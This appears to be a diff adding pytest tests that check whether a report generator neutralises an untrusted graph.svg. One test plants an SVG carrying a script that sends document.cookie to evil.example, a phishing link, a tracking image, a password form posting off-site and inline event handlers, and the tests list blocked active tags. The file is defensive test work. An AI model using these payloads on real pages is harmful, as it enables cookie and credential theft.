@@ -6,6 +6,7 @@ import base64
 import os
 import re
 import shutil
+from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
@@ -56,16 +57,87 @@ def test_report_default_output_and_no_figures(tmp_path: Path) -> None:
     assert not (run_dir / "summary.json").exists()
 
 
+def _graph_image(html: str) -> bytes:
+    pattern = r'<img class="graph-image"[^>]* src="data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)"'
+    (data,) = re.findall(pattern, html)
+    return base64.b64decode(data)
+
+
 def test_report_embeds_graph_svg(tmp_path: Path) -> None:
     run_dir = tmp_path / "run"
     shutil.copytree(shared_run("one"), run_dir)
-    (run_dir / "graph.svg").write_text(
+    svg = (
         '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd">\n'
         '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><g id="graphviz-graph"/></svg>\n'
     )
+    (run_dir / "graph.svg").write_text(svg)
     html = _report(run_dir, tmp_path / "r.html", "--no-figures")
-    assert 'id="graphviz-graph"' in html and "<?xml" not in html and "<!DOCTYPE svg" not in html
+    assert _graph_image(html) == svg.encode()  # the file, as a picture
+    assert 'id="graphviz-graph"' not in html  # not as markup of the page
     assert 'class="prov-tree"' not in html
+    _assert_self_contained(html)
+
+
+class _Markup(HTMLParser):
+    """Every tag and attribute of a page, as a browser's tokenizer sees them."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, attrs))
+
+    handle_startendtag = handle_starttag
+
+
+# Tags that run, submit, embed or fetch.  <a> stays allowed: the page's own navigation, whose
+# every href is checked below to be "#section".
+ACTIVE_TAGS = {"script", "form", "iframe", "object", "embed", "link", "base", "foreignobject", "input"}
+
+
+def test_a_planted_graph_svg_brings_no_active_markup(tmp_path: Path) -> None:
+    """A graph.svg written by someone else: script, event handlers, remote links and images,
+    a form.  The report shows it as a picture only and stays self-contained."""
+    run_dir = tmp_path / "run"
+    shutil.copytree(shared_run("one"), run_dir)
+    (run_dir / "graph.svg").write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
+        'onload="alert(1)" width="100" height="100">'
+        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>"
+        '<a xlink:href="https://evil.example/phish"><text y="20">click</text></a>'
+        '<image href="https://evil.example/track.png" width="1" height="1"/>'
+        '<foreignObject width="100" height="100"><form action="https://evil.example/post" method="post">'
+        '<input name="password"/><button onclick="steal()">log in</button></form></foreignObject>'
+        '<rect width="10" height="10" onmouseover="alert(2)"/></svg>'
+    )
+    html = _report(run_dir, tmp_path / "r.html", "--no-figures")
+    assert b"<script>" in _graph_image(html)  # it is there, but only inside the picture
+    parser = _Markup()
+    parser.feed(html)
+    names = {tag for tag, _ in parser.tags}
+    assert not names & ACTIVE_TAGS, names & ACTIVE_TAGS
+    metas = [dict(attrs) for tag, attrs in parser.tags if tag == "meta"]
+    assert all(m.get("http-equiv") in (None, "Content-Security-Policy") for m in metas)  # no refresh
+    for tag, attrs in parser.tags:
+        for name, value in attrs:
+            assert not name.startswith("on"), (tag, name, value)
+            if name in ("src", "href", "action", "xlink:href", "formaction"):
+                assert (value or "").startswith(("data:image/", "#")), (tag, name, value)
+    lowered = html.lower()
+    for needle in ("evil.example", "onload", "onclick", "onmouseover", "<script", "<form", "alert("):
+        assert needle not in lowered, needle
+    _assert_self_contained(html)
+
+
+def test_a_graph_svg_link_is_not_followed(tmp_path: Path) -> None:
+    run_dir = tmp_path / "run"
+    shutil.copytree(shared_run("one"), run_dir)
+    secret = tmp_path / "secret.svg"
+    secret.write_text('<svg xmlns="http://www.w3.org/2000/svg"><text>SECRET-TOKEN</text></svg>')
+    (run_dir / "graph.svg").symlink_to(secret)
+    html = _report(run_dir, tmp_path / "r.html", "--no-figures")
+    assert "graph-image" not in html and 'class="prov-tree"' in html  # the drawn fallback
 
 
 def test_report_without_matplotlib_still_writes_the_page(tmp_path: Path) -> None:
